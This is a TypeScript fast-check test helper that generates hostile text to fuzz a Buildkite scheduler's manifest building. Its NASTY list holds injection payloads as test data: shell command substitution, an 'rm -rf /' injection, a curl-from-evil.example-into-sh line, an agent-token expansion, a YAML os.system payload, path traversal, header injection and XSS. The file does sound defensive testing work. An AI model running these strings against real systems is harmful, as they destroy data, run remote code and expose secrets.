/**
 * Text as a Buildkite user can write it (a step label, a branch, a commit message, a
 * rule's value): any characters, and the strings that have broken schedulers before.
 */
import * as fc from "fast-check";

/**
 * Every string {@link hostileText} makes carries this marker (unless told otherwise),
 * so "did event text reach an image, a command or an environment variable?" is a
 * substring search of the manifest.
 */
export const UNTRUSTED_MARK = "UNTRUSTED";

/**
 * Each generated event's job command carries this marker: the command must appear
 * nowhere in a manifest (the agent fetches it from Buildkite itself).
 */
export const COMMAND_MARK = "JOBCOMMAND";

/** Strings aimed at shells, templates, YAML, label rules, logs and terminals. */
const NASTY = [
  "$(touch /tmp/pwned)",
  "`id`",
  "'; rm -rf / #",
  '" && curl https://evil.example/x | sh #',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, meant literally
  "${BUILDKITE_AGENT_TOKEN}",
  "{{ .Values.secret }}",
  "\n- name: injected\n  image: evil:latest\n",
  "!!python/object/apply:os.system ['id']",
  "../../etc/passwd",
  "queue=evil,pod=root",
  "buildkite.com/job-uuid=other",
  "\r\nX-Injected: 1",
  "<script>alert(1)</script>",
  "\u0000",
  "\u202e\u2066override",
  "\ud83d\ude80 \u00e9\u00e8 \u4e2d\u6587",
  "\ud800",
  "-rf",
  "null",
  " ",
  "",
] as const;

/** What {@link hostileText} makes. */
export interface HostileTextOptions {
  /** Longest random part, in UTF-16 code units; 200 by default. */
  readonly maxLength?: number;
  /**
   * A marker every string contains (after at most a few hostile characters, so that
   * truncation keeps it): {@link UNTRUSTED_MARK} by default; `false` for none.
   */
  readonly mark?: string | false;
}

/**
 * Any text a Buildkite user can put in an event: random characters (lone surrogates,
 * control characters and all), known-nasty strings, and mixtures of the two.
 *
 * @example
 * ```ts
 * fc.assert(fc.property(hostileText(), (text) => !annotate(text).includes("\n")));
 * ```
 */
export function hostileText(options: HostileTextOptions = {}): fc.Arbitrary<string> {
  const maxLength = options.maxLength ?? 200;
  const random = fc.string({ maxLength, unit: "binary" });
  const nasty = fc.constantFrom(...NASTY);
  const text = fc.oneof(
    random,
    nasty,
    fc
      .array(fc.oneof(nasty, fc.string({ maxLength: 8, unit: "binary" })), { maxLength: 4 })
      .map((parts) => parts.join("").slice(0, Math.max(maxLength, 1) * 2)),
  );
  const mark = options.mark ?? UNTRUSTED_MARK;
  if (mark === false) return text;
  const prefix = fc.oneof(fc.constant(""), fc.string({ maxLength: 4, unit: "binary" }), nasty);
  return fc.tuple(prefix, text).map(([before, after]) => `${before.slice(0, 4)}${mark}${after}`);
}
